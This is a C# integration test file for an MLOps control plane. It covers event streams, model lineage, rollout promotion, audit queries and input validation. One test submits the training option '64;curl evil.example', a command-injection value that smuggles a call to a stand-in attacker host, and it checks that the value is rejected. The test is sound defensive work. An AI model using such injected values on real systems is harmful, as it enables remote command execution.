using EventMlOps.Contracts;
using EventMlOps.Contracts.Endpoints;
using EventMlOps.Contracts.Registry;
using EventMlOps.Contracts.Views;
using EventMlOps.ControlPlane.Commanding;
using EventMlOps.ControlPlane.Endpoints;
using EventMlOps.ControlPlane.Lineage;
using EventMlOps.ControlPlane.Registry;
using EventMlOps.ControlPlane.Tests.Testing;
using EventMlOps.Hosting;
using Marten;

namespace EventMlOps.ControlPlane.Tests.Lineage;

/// <summary>The whole lifecycle through the real host: dataset → run with reported facts → version →
/// approval by another user → rollouts, checked on the event streams, the views and the lineage.</summary>
public class LifecycleTests(ControlPlaneFixture fx)
{
    [Fact]
    public async Task Given_a_full_lifecycle_When_querying_Then_streams_views_and_lineage_agree()
    {
        var s = new Scenario(fx);
        await s.RegisterDataset();
        var run = await s.TrainedRun(hr: 0.71);
        var v1 = await s.RegisteredVersion(run);
        await s.Approve(v1);
        (await s.Approver.Send("/api/models/versions/stage", new TransitionModelStage(Guid.NewGuid(), s.Model, v1, ModelStage.Production)))
            .EnsureSuccessStatusCode();
        await s.CreateEndpoint();
        (await s.RollOut(v1)).EnsureSuccessStatusCode();

        // The streams hold exactly the facts, each stamped with its actor.
        await using var session = fx.Store.QuerySession();
        var runEvents = await session.Events.FetchStreamAsync(StreamKeys.Run(run), token: TestContext.Current.CancellationToken);
        runEvents.Select(e => e.Data.GetType().Name).ShouldBe([
            "TrainingRunRequested", "TrainingRunSubmitted", "TrainingRunStarted", "TrainingEpochCompleted", "TrainingEpochCompleted",
            "TrainingEpochCompleted", "TrainingRunSucceeded", "TrainingRunRegistered"]);
        runEvents.Select(e => e.UserName).ShouldBe(["alice", "training-agent", "training-agent", "training-agent", "training-agent", "training-agent", "training-agent", "alice"]);
        var versionEvents = await session.Events.FetchStreamAsync(StreamKeys.ModelVersion(s.Model, v1), token: TestContext.Current.CancellationToken);
        versionEvents.Select(e => (e.Data.GetType().Name, e.UserName)).ShouldBe([
            ("ModelVersionRegistered", "alice"), ("ModelVersionApproved", "bob"), ("ModelVersionStageChanged", "bob")]);

        // The views answer from them.
        var registry = await s.Viewer.Get<RegisteredModel>($"/api/models/{s.Model}");
        registry.Versions.Single().Stage.ShouldBe(ModelStage.Production);
        var endpoint = await s.Viewer.Get<EndpointView>($"/api/endpoints/{s.Endpoint}");
        endpoint.Traffic.Single().Version.ShouldBe(v1);

        var lineage = await s.Viewer.Get<ModelLineage>($"/api/lineage/models/{s.Model}/{v1}");
        lineage.Dataset!.Sha256.ShouldBe(s.DatasetSha);
        lineage.Run!.RunId.ShouldBe(run);
        lineage.Run.RequestedBy.ShouldBe("alice");
        lineage.Run.Metrics!["hr@10"].ShouldBe(0.71);
        lineage.Run.Hyperparameters["epochs"].ShouldBe(3);
        lineage.Run.CodeVersion.ShouldBe("git:abc123");
        lineage.Approvals.Single().By.ShouldBe("bob");
        lineage.StageHistory.Single().To.ShouldBe(ModelStage.Production);
        lineage.Endpoints.Single().Endpoint.ShouldBe(s.Endpoint);
        lineage.Endpoints.Single().To.ShouldBeNull();

        var impact = await s.Viewer.Get<DatasetImpact>($"/api/impact?dataset={s.DatasetSha}");
        impact.Runs.ShouldBe([run]);
        impact.Versions.Single().Version.ShouldBe(v1);
        impact.Endpoints.ShouldBe([s.Endpoint]);
    }

    [Fact]
    public async Task Given_a_promotion_When_asking_lineage_as_of_before_and_after_Then_each_answers_its_own_time()
    {
        var s = new Scenario(fx);
        await s.RegisterDataset();
        var v1 = await s.RegisteredVersion(await s.TrainedRun(0.6));
        var v2 = await s.RegisteredVersion(await s.TrainedRun(0.7));
        await s.CreateEndpoint();
        (await s.RollOut(v1)).EnsureSuccessStatusCode();
        (await s.RollOut(v2, new RolloutStrategy(RolloutKind.Canary, [new CanaryStep(10, 0)]))).EnsureSuccessStatusCode();
        var beforePromotion = DateTimeOffset.UtcNow;
        var seqBefore = (await s.Viewer.Get<AuditEntry[]>($"/api/audit?stream=endpoint:{s.Endpoint}&limit=1"))[0].Sequence;
        await Task.Delay(50, TestContext.Current.CancellationToken);
        (await s.Operator.Send("/api/endpoints/promote", new PromoteRollout(Guid.NewGuid(), s.Endpoint))).EnsureSuccessStatusCode();

        var now = await s.Viewer.Get<EndpointLineage>($"/api/lineage/endpoints/{s.Endpoint}");
        now.Serving.Select(l => l.Version).ShouldBe([v2]);
        now.Rollout.ShouldBeNull();

        foreach (var asOf in new[] { Uri.EscapeDataString(beforePromotion.ToString("O")), seqBefore.ToString() })
        {
            var then = await s.Viewer.Get<EndpointLineage>($"/api/lineage/endpoints/{s.Endpoint}?asOf={asOf}");
            then.Traffic.Select(t => (t.Version, t.Weight)).ShouldBe([(v1, 90), (v2, 10)], $"as of {asOf}");
            then.Serving.Select(l => l.Version).ShouldBe([v1, v2]);
            then.Rollout!.Version.ShouldBe(v2);
            then.Serving[0].Endpoints.Single().To.ShouldBeNull("v1 was still serving then");
        }

        var v1Now = await s.Viewer.Get<ModelLineage>($"/api/lineage/models/{s.Model}/{v1}");
        v1Now.Endpoints.Single().To.ShouldNotBeNull("v1 stopped serving at the promotion");
        (await s.Viewer.GetAsync($"/api/lineage/models/{s.Model}/{v2}?asOf=2000-01-01T00:00:00Z")).StatusCode.ShouldBe(System.Net.HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Given_a_requested_run_with_a_text_option_When_the_subscription_runs_Then_a_LaunchTraining_work_order_carrying_it_is_queued()
    {
        var s = new Scenario(fx);
        await s.RegisterDataset();
        var request = s.Request() with { Options = new Dictionary<string, string> { ["layers"] = "64,32,16" } };
        (await s.Scientist.Send("/api/runs", request)).EnsureSuccessStatusCode();
        var found = await Eventually(async () =>
        {
            await using var conn = new Npgsql.NpgsqlConnection(fx.ConnectionString);
            await conn.OpenAsync();
            await using var cmd = new Npgsql.NpgsqlCommand(
                "select count(*) from emo_queues.wolverine_queue_emo_agents where position(@run in body) > 0 and position(@layers in body) > 0", conn);
            cmd.Parameters.AddWithValue("run", System.Text.Encoding.UTF8.GetBytes(request.RunId.ToString())); // the body is a binary envelope
            cmd.Parameters.AddWithValue("layers", System.Text.Encoding.UTF8.GetBytes("\"layers\":\"64,32,16\""));
            return (long)(await cmd.ExecuteScalarAsync())! > 0;
        });
        found.ShouldBeTrue("a LaunchTraining for the run, with its option, reached the agents' queue");
        (await s.Viewer.Get<TrainingRunView>($"/api/runs/{request.RunId}")).Options.ShouldBe(new Dictionary<string, string> { ["layers"] = "64,32,16" });
    }

    [Fact]
    public async Task Given_a_run_When_its_audit_is_asked_for_by_the_id_as_printed_or_as_the_stream_key_holds_it_Then_both_find_its_events()
    {
        var s = new Scenario(fx);
        await s.RegisterDataset();
        var request = s.Request();
        (await s.Scientist.Send("/api/runs", request)).EnsureSuccessStatusCode();

        var printed = await s.Viewer.Get<AuditEntry[]>($"/api/audit?stream=run:{request.RunId:D}");
        var key = await s.Viewer.Get<AuditEntry[]>($"/api/audit?stream=run:{request.RunId:N}");

        printed.ShouldNotBeEmpty();
        printed.Select(e => e.Sequence).ShouldBe(key.Select(e => e.Sequence));
        printed.ShouldAllBe(e => e.Stream == $"run:{request.RunId:N}");
    }

    [Fact]
    public async Task Given_a_text_option_the_trainer_refuses_When_requested_over_HTTP_Then_it_is_a_400_naming_the_option_and_its_form_without_the_value()
    {
        var s = new Scenario(fx);
        await s.RegisterDataset();

        var response = await s.Scientist.Send("/api/runs", s.Request() with { Options = new Dictionary<string, string> { ["layers"] = "64;curl evil.example" } });

        response.StatusCode.ShouldBe(System.Net.HttpStatusCode.BadRequest);
        var body = await response.Content.ReadAsStringAsync();
        body.ShouldContain("options.layers");
        body.ShouldContain("must be comma-separated layer sizes such as 256,64,8");
        body.ShouldNotContain("evil.example");
    }

    public static async Task<bool> Eventually(Func<Task<bool>> condition, int seconds = 15)
    {
        var until = DateTime.UtcNow.AddSeconds(seconds);
        while (DateTime.UtcNow < until)
        {
            if (await condition()) return true;
            await Task.Delay(100);
        }
        return false;
    }
}
